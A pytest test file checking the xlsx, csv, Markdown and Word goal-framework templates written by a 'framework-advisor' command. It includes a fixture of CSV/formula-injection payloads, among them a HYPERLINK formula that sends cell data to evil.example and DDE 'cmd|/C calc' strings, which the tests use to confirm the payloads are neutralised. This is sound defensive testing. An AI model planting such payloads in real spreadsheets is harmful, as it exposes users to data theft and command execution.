"""`framework-advisor templates`: the starter templates in xlsx, csv, md and docx.

Every file is opened with the library that reads it (openpyxl, python-docx, the csv module) and
its content asserted: sheets, headers, frozen panes, formula text and the cells it references,
validation, conditional formatting, number formats, prefilled examples. Whether the formulas
compute is tested in test_template_formulas.py (LibreOffice, where installed)."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import Result
from docx import Document

from framework_advisor.domain.knowledge import KnowledgeBase
from framework_advisor.domain.template import HIGHER, LOWER, Computed
from framework_advisor.domain.template import templates_for as templates_in
from framework_advisor.engine.examples import select_examples
from framework_advisor.engine.recommend import recommend
from framework_advisor.errors import OutputError
from framework_advisor.exports import write_files
from framework_advisor.render.starter import records
from framework_advisor.render.starter.fill import OutputFile
from framework_advisor.render.starter.safety import (
    neutralise_cell,
    safe_file_name,
    safe_target,
)
from framework_advisor.storage import read_answers

from ..conftest import ROOT, SAMPLES, build_tree, knowledge

Run = Callable[..., Result]

TEMPLATES = knowledge().templates
TEMPLATE_IDS = [
    "okr-planning-sheet",
    "kpi-dashboard",
    "mbo-tracker",
    "smart-worksheet",
    "balanced-scorecard",
    "hoshin-kanri-x-matrix",
    "4dx-tracker",
    "v2mom-planner",
    "north-star-canvas",
    "eos-vto",
    "mckinsey-7s-diagnostic",
    "raci-matrix",
    "fast-goals",
]
SHEETS = {
    "okr-planning-sheet": ["Objectives", "Key results"],
    "kpi-dashboard": ["KPIs"],
    "mbo-tracker": ["Objectives", "Summary"],
    "smart-worksheet": ["Goals", "Guide"],
    "balanced-scorecard": ["Scorecard", "Perspectives"],
    "v2mom-planner": ["Annual", "Quarterly"],
    "4dx-tracker": ["WIG", "Scoreboard", "Commitments"],
    "north-star-canvas": ["Canvas", "Candidates", "Input metrics"],
    "eos-vto": ["Vision", "Traction", "Rocks", "Issues", "Scorecard"],
    "hoshin-kanri-x-matrix": ["Breakthrough", "Annual", "Priorities"],
    "mckinsey-7s-diagnostic": ["Diagnostic", "Alignment"],
    "raci-matrix": ["Matrix", "Roles"],
    "fast-goals": ["Goals", "Guide"],
}
CSV_FILES = sorted(
    f"{tid}.csv" if len(TEMPLATES[tid].sheets) == 1 else f"{tid}--{sheet.id.replace('_', '-')}.csv"
    for tid in TEMPLATE_IDS
    for sheet in TEMPLATES[tid].sheets
)
HEADER = 3  # xlsx: title, note, then the header row
FIRST = 4
REFERENCE = re.compile(
    r"(?:(?P<sheet>'(?:[^']|'')+'|[A-Za-z_][A-Za-z0-9_]*)!)?"
    r"\$?(?P<col>[A-Z]{1,2})\$?(?P<row>\d+)(?::\$?(?P<col2>[A-Z]{1,2})\$?(?P<row2>\d+))?"
)
STRINGS = re.compile(r'"[^"]*"')


def templates_for(framework_id: str) -> list[str]:
    return templates_in(TEMPLATES, framework_id)


@pytest.fixture(scope="module")
def workbooks(tmp_path_factory: pytest.TempPathFactory, session_cache: Path) -> dict[str, Any]:
    """Every workbook with its worked example, written once through the CLI."""
    from click.testing import CliRunner

    from framework_advisor.cli import cli

    out = tmp_path_factory.mktemp("xlsx")
    env = {"FRAMEWORK_ADVISOR_CACHE_DIR": str(session_cache), "FRAMEWORK_ADVISOR_KB": None}
    result = CliRunner().invoke(cli, ["templates", "--out", str(out)], env=env)
    assert result.exit_code == 0, result.output
    return {tid: openpyxl.load_workbook(out / f"{tid}.xlsx") for tid in TEMPLATE_IDS}


def ok(result: Result) -> Result:
    assert result.exit_code == 0, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    return result


def fails(result: Result, *facts: str) -> Result:
    assert result.exit_code == 2, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    for fact in facts:
        assert fact in result.stderr, result.stderr
    return result


def headers(ws: Any) -> dict[str, str]:
    """Header text -> column letter, from the header row."""
    return {cell.value: cell.column_letter for cell in ws[HEADER] if isinstance(cell.value, str)}


def column_values(ws: Any, header: str) -> list[Any]:
    letter = headers(ws)[header]
    return [ws[f"{letter}{row}"].value for row in range(FIRST, ws.max_row + 1)]


def validation_for(ws: Any, cell: str) -> Any:
    matches = [dv for dv in ws.data_validations.dataValidation if cell in dv.sqref]
    assert len(matches) == 1, f"{ws.title}!{cell}: {len(matches)} validations"
    return matches[0]


def rules_for(ws: Any, cell: str) -> list[Any]:
    return [
        rule
        for formatting in ws.conditional_formatting
        if cell in formatting.sqref
        for rule in formatting.rules
    ]


def read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), f"{path.name}: UTF-8 with a byte-order mark"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# -- the templates ------------------------------------------------------------------------------


def test_every_template_and_the_frameworks_it_serves() -> None:
    assert list(TEMPLATES) == TEMPLATE_IDS
    expected = {
        "okr": ["okr-planning-sheet"],
        "kpi": ["kpi-dashboard"],
        "okr_kpi_hybrid": ["okr-planning-sheet", "kpi-dashboard"],
        "mbo": ["mbo-tracker"],
        "smart": ["smart-worksheet"],
        "bsc": ["balanced-scorecard"],
        "v2mom": ["v2mom-planner"],
        "4dx": ["4dx-tracker"],
        "north_star": ["north-star-canvas"],
        "eos": ["eos-vto"],
        "raci": ["raci-matrix"],
        "mckinsey_7s": ["mckinsey-7s-diagnostic"],
        "fast": ["fast-goals"],
        "hoshin_kanri": ["hoshin-kanri-x-matrix"],
    }
    assert {fid: templates_for(fid) for fid in expected} == expected


@pytest.mark.parametrize("tid", TEMPLATE_IDS)
def test_templates_are_well_formed(tid: str) -> None:
    template = TEMPLATES[tid]
    assert [sheet.title for sheet in template.sheets] == SHEETS[tid]
    assert len({sheet.id for sheet in template.sheets}) == len(template.sheets)
    for sheet in template.sheets:
        assert len(sheet.title) <= 31 and not set(sheet.title) & set("[]:*?/\\")
        keys = [column.key for column in sheet.columns]
        assert len(set(keys)) == len(keys), sheet.id
        for column in sheet.columns:
            check = column.checks()
            if check is not None and check.options:
                assert not any("," in option for option in check.options)
                assert len(",".join(check.options)) + 2 <= 255
            assert not (column.calculated and column.default is not None)
            if column.calculated:
                assert column.explain, f"{sheet.id}.{column.key}: say what it computes"
        for section in sheet.sections:
            for item in (*section.rows, *section.example):
                assert set(item) <= set(keys), f"{sheet.id}: {set(item) - set(keys)}"
                for value in item.values():
                    if isinstance(value, str):  # our own text never needs neutralising
                        assert neutralise_cell(value) == value, value


def test_relative_dates_end_a_quarter_or_a_year() -> None:
    import datetime as dt

    today = dt.date(2025, 11, 3)
    assert Computed(date="quarter").resolve(today) == dt.date(2025, 12, 31)
    assert Computed(date="quarter", offset=1).resolve(today) == dt.date(2026, 3, 31)
    assert Computed(date="quarter", offset=3).resolve(dt.date(2025, 2, 1)) == dt.date(2025, 12, 31)
    assert Computed(date="year", offset=3).resolve(today) == dt.date(2028, 12, 31)


def test_prefill_helpers() -> None:
    assert records.from_to("Raise NPS from 55 to 70 by Q3") == (55, 70)
    assert records.from_to("Cut time to close from 45 days to 30 days") == (45, 30)
    assert records.from_to("Grow revenue from $300k to $330k") == (300_000, 330_000)
    assert records.from_to("from 1,200 to 2,000 teams") == (1200, 2000)
    assert records.from_to("Ship the new onboarding") == (None, None)
    assert records.direction("Win rate", ">= 25%") == HIGHER
    assert records.direction("Average time to close", "<= 30 days") == LOWER
    assert records.direction("Customer churn", "2% a month") == LOWER
    assert records.perspective("Net revenue retention", "") == "Financial"
    assert records.perspective("Net Promoter Score", "how likely customers recommend") == "Customer"
    assert records.perspective("Employee engagement", "") == "Learning & Growth"
    assert records.perspective("Defect rate", "defects per thousand units") == "Internal Process"
    for count in range(1, 8):
        shares = records.weights(count)
        assert len(shares) == count and round(sum(shares), 10) == 1
    for given in ([40, 35, 25], [1, 1, 1], [50, 50, 50, 50], [3, 7], [1]):
        scaled = records.shares(given)
        assert round(sum(scaled) * 100) == 100 and all(round(s * 100) == s * 100 for s in scaled)
    assert records.shares([40, 35, 25]) == [0.4, 0.35, 0.25]
    assert records.grouped(20_000_000) == "20,000,000"
    assert records.grouped(300_000, "$") == "$300,000"
    assert records.grouped(4.3) == "4.3" and records.grouped(35, "%") == "35%"


# -- xlsx ------------------------------------------------------------------------------------


def test_every_workbook_by_default(run_cli: Run, tmp_path: Path) -> None:
    result = ok(run_cli("templates", "--out", tmp_path / "new" / "folder"))
    written = sorted(p.name for p in (tmp_path / "new" / "folder").iterdir())
    assert written == sorted(f"{tid}.xlsx" for tid in TEMPLATE_IDS)
    for tid in TEMPLATE_IDS:
        assert f"wrote {tmp_path / 'new' / 'folder' / tid}.xlsx" in result.stderr
    assert result.stdout == ""


@pytest.mark.parametrize("tid", TEMPLATE_IDS)
def test_every_workbook_is_a_real_template(workbooks: dict[str, Any], tid: str) -> None:
    wb = workbooks[tid]
    assert wb.sheetnames == [*SHEETS[tid], "How to use"]
    assert wb.active.title == SHEETS[tid][0]
    how_to = "\n".join(str(c.value) for c in wb["How to use"]["A"] if c.value)
    assert TEMPLATES[tid].guidance[0] in how_to
    assert "worked example" in how_to
    for sheet in TEMPLATES[tid].sheets:
        ws = wb[sheet.title]
        assert [c.value for c in ws[HEADER]][: len(sheet.columns)] == [
            c.header for c in sheet.columns
        ]
        letter = openpyxl.utils.get_column_letter(sheet.freeze_columns + 1)
        assert ws.freeze_panes == f"{letter}{FIRST}"
        assert ws.print_title_rows == f"${HEADER}:${HEADER}"
        assert ws.page_setup.orientation == "landscape"
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        for index, column in enumerate(sheet.columns, start=1):
            width = ws.column_dimensions[openpyxl.utils.get_column_letter(index)].width
            assert width == column.width
        # the worked example is there
        assert any(ws.cell(FIRST, c).value not in (None, "") for c in range(1, ws.max_column + 1))


@pytest.mark.parametrize("tid", TEMPLATE_IDS)
def test_every_formula_points_at_real_cells(workbooks: dict[str, Any], tid: str) -> None:
    """Each reference in each formula, validation and highlight names an existing sheet and a
    column with a header; whole-column ranges start on the first data row."""
    wb = workbooks[tid]
    formulas: list[tuple[str, str]] = []
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=FIRST):
            formulas += [(ws.title, c.value) for c in row if c.data_type == "f"]
        for dv in ws.data_validations.dataValidation:
            if dv.type == "list" and not dv.formula1.startswith('"'):
                formulas.append((ws.title, "=" + dv.formula1))
        for formatting in ws.conditional_formatting:
            formulas += [(ws.title, "=" + f) for rule in formatting.rules for f in rule.formula]
    assert formulas
    for sheet_title, formula in formulas:
        for match in REFERENCE.finditer(STRINGS.sub('""', formula)):
            target = (match["sheet"] or sheet_title).strip("'").replace("''", "'")
            assert target in wb.sheetnames, f"{sheet_title}: {formula}"
            ws = wb[target]
            for col in filter(None, (match["col"], match["col2"])):
                assert ws[f"{col}{HEADER}"].value, f"{sheet_title}: {formula} -> {target}!{col}"
            if match["row2"] and match["row"] != match["row2"]:  # a whole column
                assert int(match["row"]) == FIRST, formula


def test_okr_sheet_formulas_and_validation(workbooks: dict[str, Any]) -> None:
    wb = workbooks["okr-planning-sheet"]
    objectives, krs = wb["Objectives"], wb["Key results"]
    kr = headers(krs)
    assert (kr["Start"], kr["Target"], kr["Current"], kr["Progress"]) == ("E", "F", "G", "H")
    assert krs["H4"].value == '=IF(OR(E4="",F4="",G4="",F4=E4),"",MAX(0,MIN(1,(G4-E4)/(F4-E4))))'
    assert [krs[f"{c}4"].value for c in "EFG"] == [35, 50, 41]  # progress 40%
    assert [krs[f"{c}5"].value for c in "EFG"] == [5, 2, 4]  # a falling target: 33%
    assert krs["H4"].number_format == "0%"
    assert krs["A4"].value == "O1" and objectives["A4"].value == "O1"
    assert column_values(objectives, "ID")[:6] == ["O1", "O2", "O3", "O4", "O5", "O6"]

    ob = headers(objectives)
    progress = objectives[f"{ob['Progress']}4"].value
    assert progress == (
        '=IF(OR(A4="",B4=""),"",IFERROR(AVERAGEIF(\'Key results\'!$A$4:$A$203,A4,'
        "'Key results'!$H$4:$H$203),\"\"))"
    )
    assert krs["A3"].value == "Objective ID" and krs["H3"].value == "Progress"
    grade_letter = kr["Grade (0.0-1.0)"]
    assert f"'Key results'!${grade_letter}$4:${grade_letter}$203" in (
        objectives[f"{ob['Grade (0.0-1.0)']}4"].value
    )
    assert "COUNTIF('Key results'!$A$4:$A$203,A4)" in objectives[f"{ob['Key results']}4"].value
    assert krs["B4"].value.startswith('=IF(A4="","",IFERROR(INDEX(Objectives!$B$4:$B$203,')

    kind = validation_for(objectives, f"{ob['Type']}4")
    assert kind.type == "list" and kind.formula1 == '"Committed,Aspirational,Learning"'
    assert str(kind.sqref) == f"{ob['Type']}4:{ob['Type']}203"
    link = validation_for(krs, "A10")
    assert link.type == "list" and link.formula1 == "Objectives!$A$4:$A$203"
    confidence = validation_for(krs, f"{kr['Conf. wk 1']}4")
    assert (confidence.type, confidence.operator) == ("whole", "between")
    assert (confidence.formula1, confidence.formula2) == ("1", "10")
    assert str(confidence.sqref).split()[0] == f"{kr['Conf. wk 1']}4:{kr['Conf. wk 1']}203"
    grade = validation_for(krs, f"{grade_letter}4")
    assert (grade.type, grade.formula1, grade.formula2) == ("decimal", "0", "1")
    assert krs[f"{grade_letter}4"].number_format == "0.0"
    assert [krs[f"{kr[f'Conf. wk {w}']}4"].value for w in (1, 2, 3)] == [5, 6, 6]
    assert len(rules_for(krs, f"{kr['Conf. wk 13']}4")) == 3
    assert rules_for(objectives, f"{ob['Key results']}4")[0].formula == [
        'AND($B4<>"",ISNUMBER(F4),OR(F4<2,F4>5))'
    ]


def test_kpi_dashboard_status_and_formatting(workbooks: dict[str, Any]) -> None:
    ws = workbooks["kpi-dashboard"]["KPIs"]
    h = headers(ws)
    t, a, d, b = h["Target"], h["Actual"], h["Direction"], h["At-risk band"]
    status = ws[f"{h['Status']}4"].value
    assert status.startswith(f'=IF(OR({t}4="",{a}4=""),"",IF({d}4="Lower is better",')
    assert f'IF({a}4>={t}4-ABS({t}4)*{b}4,"At risk","Off track")' in status
    assert [ws[f"{t}{r}"].value for r in (4, 5, 6)] == [105, 4, 500]
    assert [ws[f"{a}{r}"].value for r in (4, 5, 6)] == [107, 4.3, 410]
    assert [ws[f"{d}{r}"].value for r in (4, 5, 6)] == [
        "Higher is better",
        "Lower is better",
        "Higher is better",
    ]
    assert ws[f"{b}4"].value == 0.1 and ws[f"{b}4"].number_format == "0%"
    assert ws[f"{b}18"].value == 0.1  # blank rows start with the band too
    rules = rules_for(ws, f"{h['Status']}4")
    assert sorted(r.formula[0] for r in rules) == ['"At risk"', '"Off track"', '"On track"']
    assert {r.type for r in rules} == {"cellIs"}
    assert all(r.dxf.fill is not None for r in rules)
    assert any(
        str(cf.sqref) == f"{h['Status']}4:{h['Status']}203" for cf in ws.conditional_formatting
    )
    for header, options in (
        ("Leading or lagging", '"Leading,Lagging"'),
        ("Review", '"Daily,Weekly,Monthly,Quarterly,Annual"'),
        ("Direction", '"Higher is better,Lower is better"'),
    ):
        assert validation_for(ws, f"{h[header]}4").formula1 == options
    assert ws.auto_filter.ref.startswith("A3:")


def test_mbo_tracker_weights_check_and_bonus(workbooks: dict[str, Any]) -> None:
    wb = workbooks["mbo-tracker"]
    objectives, summary = wb["Objectives"], wb["Summary"]
    h = headers(objectives)
    assert (h["Weight"], h["Achievement"], h["Weighted score"]) == ("D", "E", "F")
    assert objectives["F4"].value == '=IF(OR(D4="",E4=""),"",D4*E4)'
    assert [objectives[f"D{r}"].value for r in (4, 5, 6)] == [0.4, 0.3, 0.3]
    assert objectives["D4"].number_format == "0%"
    weight = validation_for(objectives, "D4")
    assert (weight.type, weight.operator, weight.formula1, weight.formula2) == (
        "decimal",
        "between",
        "0",
        "1",
    )
    assert str(weight.sqref) == "D4:D203"

    labels = {summary[f"A{r}"].value: r for r in range(FIRST, summary.max_row + 1)}
    total = summary[f"B{labels['Total weight']}"].value
    assert total == "=SUM(Objectives!$D$4:$D$203)"
    check = summary[f"B{labels['Weights check']}"].value
    assert check.startswith(f'=IF(ROUND($B${labels["Total weight"]},4)=1,"OK: weights total 100%"')
    assert summary[f"B{labels['Weighted score']}"].value == (
        '=IF(COUNT(Objectives!$F$4:$F$203)=0,"",SUM(Objectives!$F$4:$F$203))'
    )
    payout = summary[f"B{labels['Bonus payout']}"].value
    bonus, score = labels["Target bonus"], labels["Weighted score"]
    assert payout == f'=IF($B${bonus}="","",$B${bonus}*$B${score})'
    assert summary[f"B{bonus}"].value == 10000
    assert summary[f"B{labels['Bonus payout']}"].number_format == "#,##0"
    assert summary[f"B{labels['Total weight']}"].number_format == "0%"
    tones = rules_for(summary, f"B{labels['Weights check']}")
    assert len(tones) == 2


def test_other_templates_hold_their_parts(workbooks: dict[str, Any]) -> None:
    bsc = workbooks["balanced-scorecard"]["Scorecard"]
    perspectives = column_values(bsc, "Perspective")
    assert [p for i, p in enumerate(perspectives) if p not in perspectives[:i]] == [
        "Financial",
        "Customer",
        "Internal Process",
        "Learning & Growth",
    ]
    assert all(perspectives.count(p) >= 3 for p in set(perspectives))
    assert {"Strategic objective", "Measure", "Target", "Initiative"} <= set(headers(bsc))

    wig = workbooks["4dx-tracker"]["WIG"]
    h = headers(wig)
    assert wig[f"{h['From X to Y by when']}4"].value.startswith(
        '=IF(OR(B4="",D4="",E4="",F4=""),"",B4&": from "&FIXED(D4,IF(D4=INT(D4),0,'
    )  # 20,000,000 in the reader's locale, never 20000000
    board = workbooks["4dx-tracker"]["Scoreboard"]
    weeks = [header for header in headers(board) if header.startswith("Wk ")]
    assert weeks == [f"Wk {n}" for n in range(1, 14)]
    hb = headers(board)
    assert board[f"{hb['Weeks met']}4"].value == (
        '=IF(OR(B4="",D4="",COUNT(E4:Q4)=0),"",COUNTIF(E4:Q4,">="&D4))'
    )
    assert rules_for(board, "E4")[0].formula == ['AND(ISNUMBER(E4),$D4<>"",E4>=$D4)']

    smart = workbooks["smart-worksheet"]["Goals"]
    assert smart["H4"].value == (
        '=IF(A4="","",IF(COUNTA(B4:F4)=5,"SMART","Missing "&(5-COUNTA(B4:F4))&" of 5"))'
    )
    assert smart["F4"].is_date

    v2mom = workbooks["v2mom-planner"]["Annual"]
    assert column_values(v2mom, "Part")[0] == "Vision"
    assert {"Vision", "Values", "Methods", "Obstacles", "Measures"} == set(
        column_values(v2mom, "Part")
    ) - {None}
    assert set(column_values(workbooks["v2mom-planner"]["Quarterly"], "Quarter")) == {
        "Q1",
        "Q2",
        "Q3",
        "Q4",
    }

    candidates = workbooks["north-star-canvas"]["Candidates"]
    hc = headers(candidates)
    assert candidates[f"{hc['Rank']}4"].value == '=IF(ISNUMBER(G4),RANK(G4,$G$4:$G$203),"")'

    vision = workbooks["eos-vto"]["Vision"]
    assert {"Core Values", "Core Focus", "10-Year Target", "Marketing Strategy"} <= set(
        column_values(vision, "Section")
    )


# -- csv, md, docx ---------------------------------------------------------------------------


def test_csv_one_file_per_sheet(run_cli: Run, tmp_path: Path) -> None:
    ok(run_cli("templates", "--format", "csv", "--out", tmp_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == CSV_FILES
    for tid in TEMPLATE_IDS:
        for sheet in TEMPLATES[tid].sheets:
            name = (
                f"{tid}.csv"
                if len(TEMPLATES[tid].sheets) == 1
                else f"{tid}--{sheet.id.replace('_', '-')}.csv"
            )
            rows = read_csv(tmp_path / name)
            stamp = TEMPLATES[tid].stamp().marker()  # right of the headers: what the file is
            assert rows[0] == [*(column.header for column in sheet.columns), stamp]
            assert all(len(row) == len(sheet.columns) for row in rows[1:])
    assert b"\r\n" in (tmp_path / "kpi-dashboard.csv").read_bytes()
    krs = read_csv(tmp_path / "okr-planning-sheet--key-results.csv")
    assert krs[1][:8] == [
        "O1",
        '=IF(A2="","",IFERROR(INDEX(Objectives!$B$2:$B$201,MATCH(A2,Objectives!$A$2:$A$201,0)),""))',
        "Raise the activation rate from 35% to 50%",
        "Onboarding lead",
        "35",
        "50",
        "41",
        '=IF(OR(E2="",F2="",G2="",F2=E2),"",MAX(0,MIN(1,(G2-E2)/(F2-E2))))',
    ]
    mbo = read_csv(tmp_path / "mbo-tracker--objectives.csv")
    assert mbo[1][3:6] == ["40%", "110%", '=IF(OR(D2="",E2=""),"",D2*E2)']
    summary = {row[0]: row[1] for row in read_csv(tmp_path / "mbo-tracker--summary.csv")[1:]}
    assert summary["Total weight"] == "=SUM(Objectives!$D$2:$D$201)"
    assert summary["Target bonus"] == "10000"
    assert re.fullmatch(r"\d{4}-12-31", summary["Period ends"])


def test_markdown_for_notion(run_cli: Run, tmp_path: Path) -> None:
    ok(run_cli("templates", "--format", "md", "--out", tmp_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"{t}.md" for t in TEMPLATE_IDS)
    for tid in TEMPLATE_IDS:
        text = (tmp_path / f"{tid}.md").read_text(encoding="utf-8")
        assert text.startswith(f"# {TEMPLATES[tid].title}\n")
        assert "## How to use" in text
        for sheet in TEMPLATES[tid].sheets:
            assert f"\n## {sheet.title}\n" in text
            header = "| " + " | ".join(
                c.header.replace("|", "\\|") + (" \\*" if c.calculated else "")
                for c in sheet.columns
            )
            assert header + " |\n|" in text
    okr = (tmp_path / "okr-planning-sheet.md").read_text(encoding="utf-8")
    assert (
        "| O1 |  | Raise the activation rate from 35% to 50% | Onboarding lead | 35 | 50 |" in okr
    )
    assert "- **Progress**: (current - start) / (target - start)" in okr


def test_word_documents(run_cli: Run, tmp_path: Path) -> None:
    ok(run_cli("templates", "--format", "docx", "--out", tmp_path))
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(f"{t}.docx" for t in TEMPLATE_IDS)
    for tid in TEMPLATE_IDS:
        doc = Document(str(tmp_path / f"{tid}.docx"))
        headings = [
            (p.style.name, p.text)
            for p in doc.paragraphs
            if p.style.name.startswith(("Title", "Heading"))
        ]
        assert headings[0] == ("Title", TEMPLATES[tid].title)
        assert [text for style, text in headings if style == "Heading 1"] == [
            "How to use",
            *SHEETS[tid],
        ]
        assert len(doc.tables) == len(TEMPLATES[tid].sheets)
        for table, sheet in zip(doc.tables, TEMPLATES[tid].sheets, strict=True):
            assert [cell.text for cell in table.rows[0].cells] == [
                (c.short or c.header) + (" *" if c.calculated else "") for c in sheet.columns
            ]
            assert table.rows[0]._tr.trPr.xpath("./w:tblHeader")  # repeats on every page
        section = doc.sections[0]
        assert section.page_width > section.page_height  # landscape
    okr = Document(str(tmp_path / "okr-planning-sheet.docx"))
    assert okr.tables[1].rows[1].cells[2].text == "Raise the activation rate from 35% to 50%"


# -- prefilled from answers ------------------------------------------------------------------


def test_answers_prefill_the_function_and_industry_examples(
    run_cli: Run, write_answers: Callable[..., Path], kb: KnowledgeBase, tmp_path: Path
) -> None:
    answers = write_answers(
        {
            "organisation": "Acme Tools",
            "headcount": 80,
            "needs": ["alignment"],
            "function": "sales",
            "industry": "software",
        }
    )
    selection = select_examples(kb, {"function": "sales", "industry": "software"})
    assert (
        selection.okrs
        and selection.kpis
        and selection.areas == ["industry:software", "function:sales"]
    )
    out = tmp_path / "out"
    ok(run_cli("templates", "okr", "kpi", "4dx", "--answers", answers, "--out", out))
    okr = openpyxl.load_workbook(out / "okr-planning-sheet.xlsx")
    objectives = okr["Objectives"]
    expected = [o.objective for o in selection.okrs[:5]]
    assert column_values(objectives, "Objective")[: len(expected)] == expected
    assert column_values(objectives, "Type")[0] == selection.okrs[0].type.capitalize()
    assert objectives["A1"].value.startswith("OKR planning sheet: Acme Tools")
    krs = [kr for o in selection.okrs[:5] for kr in o.key_results]
    assert column_values(okr["Key results"], "Key result")[: len(krs)] == krs
    first_start, first_target = records.from_to(krs[0])
    assert okr["Key results"]["E4"].value == first_start
    assert okr["Key results"]["F4"].value == first_target
    how_to = "\n".join(str(c.value) for c in okr["How to use"]["A"] if c.value)
    assert "Prefilled with the examples of your report (Software, Sales)" in how_to

    kpis = openpyxl.load_workbook(out / "kpi-dashboard.xlsx")["KPIs"]
    names = [k.name for k in selection.kpis[:15]]
    assert column_values(kpis, "KPI")[: len(names)] == names
    assert column_values(kpis, "Target (as written)")[0] == selection.kpis[0].target
    assert column_values(kpis, "Review")[0] == selection.kpis[0].frequency.capitalize()
    assert "Net revenue retention (%)" not in column_values(kpis, "KPI")  # no worked example

    board = openpyxl.load_workbook(out / "4dx-tracker.xlsx")["Scoreboard"]
    [wig, *_] = selection.of_role("wig")  # the tracker's W1: its lead measures, no other WIG's
    leads = [e.name for e in selection.of_role("lead_measure") if e.drives == wig.metric][:3]
    assert len(leads) >= 2
    assert column_values(board, "Lead measure")[: len(leads) + 1] == [*leads, None]


PACK_EXAMPLES = """\
area: sales
kind: function
title: Sales (pack)
okrs:
  - objective: '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    type: learning
    key_results:
      - '+cmd|'' /C calc''!A0'
      - Raise the win rate from 10 to 20
  - objective: Grow a healthy pipeline
    key_results:
      - Raise qualified pipeline from 2 to 3
      - '@SUM(1+1)*cmd'
kpis:
  - name: '-2+3+cmd|'' /C calc''!A0'
    definition: "\\t=1+1 hidden behind a tab"
    indicator: leading
    level: operational
    target: "\\r=2+2"
    frequency: weekly
  - name: Win rate
    definition: Deals won / deals closed
    indicator: lagging
    level: strategic
    target: ">= 25%"
    frequency: monthly
"""


@pytest.fixture
def evil_pack(tmp_path: Path) -> Path:
    return build_tree(
        tmp_path / "pack",
        {
            "pack.yaml": "name: evil\nversion: '1'\nschema_version: 2\n",
            "examples/functions/sales.yaml": PACK_EXAMPLES,
        },
    )


def test_pack_examples_prefill_exactly(
    run_cli: Run,
    write_answers: Callable[..., Path],
    evil_pack: Path,
    tmp_path: Path,
    kb: KnowledgeBase,
) -> None:
    answers = write_answers(
        {"function": "sales", "industry": "other", "headcount": 30, "needs": ["alignment"]}
    )
    ok(
        run_cli(
            "--kb", evil_pack, "templates", "okr", "mbo", "--answers", answers, "--out", tmp_path
        )
    )
    krs = openpyxl.load_workbook(tmp_path / "okr-planning-sheet.xlsx")["Key results"]
    assert [krs[f"A{r}"].value for r in range(4, 8)] == ["O1", "O1", "O2", "O2"]
    assert [krs[f"E{r}"].value for r in range(4, 8)] == [None, 10, 2, None]
    assert [krs[f"F{r}"].value for r in range(4, 8)] == [None, 20, 3, None]
    mbo = openpyxl.load_workbook(tmp_path / "mbo-tracker.xlsx")["Objectives"]
    weights = [mbo[f"D{r}"].value for r in range(4, 10) if mbo[f"D{r}"].value is not None]
    assert round(sum(weights), 10) == 1
    # the pack's sales set has no MBO objectives: the company set's, never the pack's OKRs
    company = [e.objective for e in kb.examples["function:company"].of_role("mbo_objective")]
    assert [mbo[f"A{r}"].value for r in range(4, 4 + len(weights))] == company[: len(weights)]


def test_formula_injection_is_neutralised_in_xlsx_and_csv(
    run_cli: Run, write_answers: Callable[..., Path], evil_pack: Path, tmp_path: Path
) -> None:
    answers = write_answers(
        {
            "organisation": "=cmd|' /C calc'!A0",
            "function": "sales",
            "headcount": 30,
            "needs": ["alignment"],
        }
    )
    xlsx, csvs = tmp_path / "xlsx", tmp_path / "csv"
    for fmt, out in (("xlsx", xlsx), ("csv", csvs)):
        ok(run_cli("--kb", evil_pack, "templates", "okr", "kpi", "--answers", answers,
                   "-f", fmt, "--out", out))  # fmt: skip

    okr = openpyxl.load_workbook(xlsx / "okr-planning-sheet.xlsx")
    cell = okr["Objectives"]["B4"]
    assert cell.value == '\'=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    assert cell.data_type == "s"
    assert okr["Key results"]["C4"].value == "'+cmd|' /C calc'!A0"
    assert okr["Key results"]["C7"].value == "'@SUM(1+1)*cmd"
    kpis = openpyxl.load_workbook(xlsx / "kpi-dashboard.xlsx")["KPIs"]
    assert kpis["A4"].value == "'-2+3+cmd|' /C calc'!A0"
    assert kpis["B4"].value == "'\t=1+1 hidden behind a tab"
    assert kpis["H4"].value == "'\r=2+2"
    assert okr["Objectives"]["A1"].value == "OKR planning sheet: =cmd|' /C calc'!A0: Objectives"
    for wb in (okr, openpyxl.load_workbook(xlsx / "kpi-dashboard.xlsx")):
        for ws in wb.worksheets:
            assert ws["A1"].data_type == "s"
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "f":  # only our own formulas
                        assert not re.search(r"HYPERLINK|cmd|SUM\(1", c.value), c.value

    objectives = read_csv(csvs / "okr-planning-sheet--objectives.csv")
    assert objectives[1][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    key_results = read_csv(csvs / "okr-planning-sheet--key-results.csv")
    assert key_results[1][2] == "'+cmd|' /C calc'!A0"
    kpi_rows = read_csv(csvs / "kpi-dashboard.csv")
    assert kpi_rows[1][0] == "'-2+3+cmd|' /C calc'!A0"
    assert kpi_rows[1][1] == "'\t=1+1 hidden behind a tab"
    assert kpi_rows[1][7] == "'\r=2+2"
    for path in csvs.iterdir():
        for row in read_csv(path):
            for value in row:
                assert not (value.startswith(("=", "+", "-", "@", "\t", "\r")) and "cmd" in value)


def test_neutralise_cell() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\u00a0=1", "\uff1d1"):
        assert neutralise_cell(text) == "'" + text
    for text in ("", "Plain", "50% or more", "'already quoted", "≥ 95%", "a=1"):
        assert neutralise_cell(text) == text


# -- --mix and ids ---------------------------------------------------------------------------


def expected_mix_files(kb: KnowledgeBase, sample: Path, suffix: str) -> list[str]:
    phases = recommend(kb, read_answers(kb, sample).answers).phases
    files: list[str] = []
    for fid in (f for phase in phases for f in phase.frameworks):
        files += [f"{tid}{suffix}" for tid in templates_for(fid)]
    return sorted(set(files))


@pytest.mark.parametrize("sample", sorted(SAMPLES.glob("*.yaml")), ids=lambda p: p.stem)
